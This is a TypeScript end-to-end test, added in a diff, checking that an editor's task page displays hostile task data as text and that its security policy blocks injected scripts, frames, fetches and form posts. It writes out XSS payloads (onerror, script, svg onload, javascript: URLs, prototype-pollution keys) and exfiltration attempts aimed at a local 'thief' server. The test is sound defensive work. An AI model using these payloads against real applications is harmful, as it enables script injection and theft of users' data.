@@ -1,0 +1,135 @@
+import assert from 'node:assert/strict';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { answerEvents } from '../support/e2e/answerEvents.ts';
+import { EditorSession } from '../support/e2e/editorSession.ts';
+import { putTask } from '../support/e2e/putTask.ts';
+import { simulatedTask } from '../support/e2e/simulatedTask.ts';
+import { TaskPage } from '../support/e2e/taskPage.ts';
+import { startTestAccount } from '../support/startTestAccount.ts';
+import type { TestAccount } from '../support/testAccount.ts';
+
+const TASK = simulatedTask('put by a test');
+
+describe('The page of a Task of bad will', () => {
+  const resources = new AsyncDisposableStack();
+  let account: TestAccount;
+  let session: EditorSession;
+  let page: TaskPage;
+  let thief: Server;
+  let evil: string;
+  const stolen: string[] = [];
+
+  before(async () => {
+    account = await startTestAccount();
+    resources.defer(() => account.close());
+    thief = createServer((request, response) => {
+      stolen.push(`${request.method ?? ''} ${request.url ?? ''}`);
+      response.end();
+    });
+    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
+    resources.defer(() => {
+      thief.close();
+    });
+    evil = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
+    session = await EditorSession.start({ env: account.env, settings: account.settings });
+    resources.defer(() => session.close());
+    page = new TaskPage(session);
+  });
+  after(() => resources.disposeAsync());
+
+  const ran = () => page.frame.evaluate('globalThis.ran');
+
+  it('shows it as text, and runs nothing of it', async () => {
+    const markup = `<img src="${evil}/i" onerror="ran=1"><script>ran=2</script><svg/onload=ran=3>`;
+    const texts = [
+      markup,
+      'javascript:ran=4',
+      '${ran=5}{{ran=6}}',
+      'command:ran',
+      '\u0007\u202e\u0000',
+    ];
+    const deep = `${'{"d":'.repeat(500)}1${'}'.repeat(500)}`;
+    const attributes = `{"__proto__":{"ran":7},"constructor":${JSON.stringify(markup)},"texts":${JSON.stringify(texts)},"deep":${deep},"long":"${'x'.repeat(1_000_000)}"}`;
+    putTask(account.server, TASK, {
+      attributes,
+      assignment_status: markup,
+      task_queue_friendly_name: markup,
+      workflow_friendly_name: `</code>${markup}`,
+      reason: markup,
+      [markup]: markup,
+      links: { [markup]: 'javascript:ran=8', toString: `${evil}/link` },
+    });
+    const worker = {
+      worker_name: markup,
+      reservation_sid: markup,
+      worker_sid: '"><b onclick=ran=9>',
+    };
+    answerEvents(account.server, [
+      { type: markup, at: account.server.now(), description: markup, data: worker },
+      { type: 'reservation.created', at: account.server.now(), data: worker },
+      { type: '__proto__', at: account.server.now(), data: { __proto__: markup } },
+    ]);
+    await page.open(TASK, `Offered to <img src=`);
+    await session.screenshot('details-hostile');
+    const text = await page.text();
+    assert.ok(text.split('<script>ran=2</script>').length > 5, 'it is not shown as text');
+    assert.match(text, /__proto__: 1 key/);
+    assert.match(text, /long: "x{9000}/);
+    for (const row of ['deep: 1 key', 'texts: 5 items']) await page.row(row).click();
+    await page.section('Links').getByText('javascript:').click();
+    await page.frame.getByRole('textbox').fill('ran=2</script>');
+    await page.shows(/constructor: "<img/);
+    assert.equal(
+      await page.frame.locator('main :is(script, img, a, iframe, form, [onclick])').count(),
+      0,
+    );
+    assert.equal(await ran(), undefined);
+    assert.equal(await page.frame.evaluate('({}).ran'), undefined);
+    assert.deepEqual(stolen, []);
+    await page.frame.getByRole('textbox').fill('');
+  });
+
+  it('lets nothing in and nothing out, even if somebody got into it', async () => {
+    await page.frame.evaluate(
+      `globalThis.refused = [];
+       document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+         refused.push(effectiveDirective);
+       });`,
+    );
+    const refused = (directive: string) =>
+      session.waitUntil(`${directive} is refused`, async () =>
+        String(await page.frame.evaluate('refused.join()')).includes(directive),
+      );
+    const add = (tag: string, parts: string) =>
+      `{ const e = document.createElement('${tag}'); ${parts}; document.body.append(e); }`;
+    for (const [directive, attempt] of [
+      ['script-src-elem', add('script', "e.textContent = 'ran = 1'")],
+      ['script-src-elem', add('script', `e.src = '${evil}/script'`)],
+      [
+        'script-src-attr',
+        `${add('button', "e.setAttribute('onclick', 'ran = 2')")} document.body.lastChild.click()`,
+      ],
+      // By a timer, as what a debugger evaluates may evaluate.
+      ['script-src', "setTimeout(() => { (0, eval)('ran = 3'); })"],
+      ['style-src-elem', add('style', "e.textContent = 'main { display: none }'")],
+      ['img-src', add('img', `e.src = '${evil}/image'`)],
+      ['connect-src', `fetch('${evil}/fetch').catch(() => undefined)`],
+      ['frame-src', add('iframe', `e.src = '${evil}/frame'`)],
+      ['base-uri', add('base', `e.href = '${evil}/'`)],
+    ] as const) {
+      await page.frame.evaluate(`refused.length = 0; ${attempt}; undefined`);
+      await refused(directive);
+    }
+    assert.equal(await ran(), undefined);
+    // The browser says so in place of the page.
+    const said = session.page.waitForEvent('console', (line) =>
+      line.text().includes('form-action'),
+    );
+    await page.frame.evaluate(
+      `${add('form', `e.action = '${evil}/form'`)} document.body.lastChild.submit()`,
+    );
+    await said;
+    assert.deepEqual(stolen, []);
+  });
+});
